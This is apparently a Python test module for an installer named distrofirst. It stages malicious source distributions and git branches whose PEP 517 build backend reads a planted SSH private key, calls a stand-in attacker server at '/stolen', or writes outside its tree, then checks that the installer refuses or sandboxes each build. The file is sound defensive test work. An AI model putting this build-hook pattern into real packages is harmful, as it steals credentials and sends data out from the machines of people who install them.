"""Attacks through code that an installer runs to build: sdists, and a branch of a repository.

Each source brings its build backend along (PEP 517, ``backend-path``), which needs nothing from anywhere: it does what
the attacker wants, and writes a wheel.

distrofirst builds nothing unasked: what has no wheel is unmet. Where a build was asked for, it happens in a sandbox.
"""

from __future__ import annotations

import io
import os
import subprocess
import tarfile
from typing import TYPE_CHECKING, Final

from tests.attacks.attack import LONG_AGO, NAME, VERSION, Attack, Refused, Stage, sha256
from tests.loopback import Reply
from tests.simple_server import page
from tests.wheels import metadata_of

if TYPE_CHECKING:
    from tests.loopback import Request

PYPROJECT: Final = """\
[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]

[project]
name = "zz-demo"
version = "1.0"
"""
BACKEND: Final = """\
import base64, hashlib, pathlib, urllib.request, zipfile

ROOT = pathlib.Path(__file__).parent
NAME, INFO = "zz_demo-1.0-py3-none-any.whl", "zz_demo-1.0.dist-info"
WHEEL = "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"

def build_wheel(directory, config_settings=None, metadata_directory=None):
    module = ""
    {attack}
    metadata = (ROOT / "PKG-INFO").read_text()
    record = ""
    with zipfile.ZipFile(pathlib.Path(directory, NAME), "w") as archive:
        for path, text in (("zz_demo/__init__.py", module), (INFO + "/METADATA", metadata), (INFO + "/WHEEL", WHEEL)):
            archive.writestr(path, text)
            digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).decode().rstrip("=")
            record += f"{{path}},sha256={{digest}},{{len(text.encode())}}\\n"
        archive.writestr(INFO + "/RECORD", record + INFO + "/RECORD,,\\n")
    return NAME
"""

ONLY_AN_SDIST: Final = Refused(words="only an sdist", code=1)


def _source(attack: str) -> dict[str, str]:
    """Give the files of a source whose backend does ``attack``, one line of Python."""
    return {
        "pyproject.toml": PYPROJECT,
        "backend.py": BACKEND.format(attack=attack),
        "PKG-INFO": metadata_of(NAME, VERSION),
    }


def _sdist(stage: Stage, attack: str) -> None:
    """Offer a source alone: there is no wheel of this release."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for path, text in _source(attack).items():
            member = tarfile.TarInfo(f"zz_demo-{VERSION}/{path}")
            member.size = len(text.encode())
            archive.addfile(member, io.BytesIO(text.encode()))
    filename = f"zz_demo-{VERSION}.tar.gz"
    stage.index.add(f"/files/{filename}", Reply(body=buffer.getvalue()))
    entry = {
        "filename": filename,
        "url": f"../../files/{filename}",
        "hashes": {"sha256": sha256(buffer.getvalue())},
        "upload-time": LONG_AGO,
    }
    stage.index.routes[f"/simple/{NAME}/"] = [page(NAME, [entry])]
    stage.require(NAME)


def _reads_home(stage: Stage) -> None:
    """What it reads leaves with the wheel."""
    key = stage.home / ".ssh" / "id_ed25519"
    key.parent.mkdir()
    key.write_text("a secret")
    _sdist(stage, f"module = 'KEY = ' + repr(pathlib.Path({str(key)!r}).read_text())")


def _opens_a_socket(stage: Stage) -> None:
    """The attacker's server writes the mark when it is asked."""

    def answer(request: Request) -> Reply:
        assert request.path == "/stolen"
        stage.mark.touch()
        return Reply()

    stage.other.routes["/stolen"] = answer
    _sdist(stage, f"urllib.request.urlopen({stage.other.url + '/stolen'!r}).close()")


def _writes_outside(stage: Stage) -> None:
    _sdist(stage, stage.payload.strip())


def _branch(stage: Stage) -> None:
    """A branch is whatever its owner makes of it, any day. The server speaks git's simplest protocol: files."""
    repository = stage.folder.parent / "repository"
    repository.mkdir()
    for path, text in _source(stage.payload.strip()).items():
        (repository / path).write_text(text)
    environment = {"PATH": os.environ["PATH"], "HOME": str(stage.home)}
    git = ("git", "-c", "user.name=T", "-c", "user.email=t@tests.example", "-c", "init.defaultBranch=main")
    for command in (("init",), ("add", "."), ("commit", "-m", "all"), ("update-server-info",)):
        subprocess.run([*git, *command], cwd=repository, check=True, capture_output=True, env=environment)
    for file in (repository / ".git").rglob("*"):
        if file.is_file():
            stage.other.add(f"/demo/{file.relative_to(repository / '.git')}", Reply(body=file.read_bytes()))
    stage.other.routes["/demo/info/refs?service=git-upload-pack"] = stage.other.routes["/demo/info/refs"]
    stage.require(f"{NAME} @ git+{stage.other.url}/demo@main")


ASKED: Final = ("--allow-sdist", NAME)
"""The victim wants it built."""


def _commit(stage: Stage) -> None:
    """A commit does not move, and may be the attacker's all the same."""
    _branch(stage)
    head = (stage.folder.parent / "repository" / ".git" / "refs" / "heads" / "main").read_text().strip()
    stage.require(f"{NAME} @ git+{stage.other.url}/demo@{head}")


ATTACKS: Final = (
    Attack(
        name="sdist that reads the home folder",
        stage=_reads_home,
        use="import zz_demo; hasattr(zz_demo, 'KEY') and open(MARK, 'a')",
        expected=ONLY_AN_SDIST,
    ),
    Attack(name="sdist that opens a socket", stage=_opens_a_socket, expected=ONLY_AN_SDIST),
    Attack(name="sdist that writes outside of its tree", stage=_writes_outside, expected=ONLY_AN_SDIST),
    Attack(
        name="sdist that reads the home folder, where it may be built",
        stage=_reads_home,
        use="import zz_demo; hasattr(zz_demo, 'KEY') and open(MARK, 'a')",
        options=ASKED,
        expected=Refused(words="its build reached for what is outside of the sandbox"),
        needs="bwrap",
    ),
    Attack(
        name="sdist that opens a socket, where it may be built",
        stage=_opens_a_socket,
        options=ASKED,
        expected=Refused(words="its build tried to reach the network"),
        needs="bwrap",
    ),
    Attack(
        name="sdist that writes outside of its tree, where it may be built",
        stage=_writes_outside,
        options=ASKED,
        expected=Refused(words="its build reached for what is outside of the sandbox"),
        needs="bwrap",
    ),
    Attack(
        name="branch of a repository",
        stage=_branch,
        expected=Refused(words="name a branch or a tag, which can move, not a full commit"),
        needs="git",
    ),
    Attack(
        name="commit whose build writes outside of its tree",
        stage=_commit,
        expected=Refused(words="its build reached for what is outside of the sandbox"),
        needs="bwrap",
    ),
)
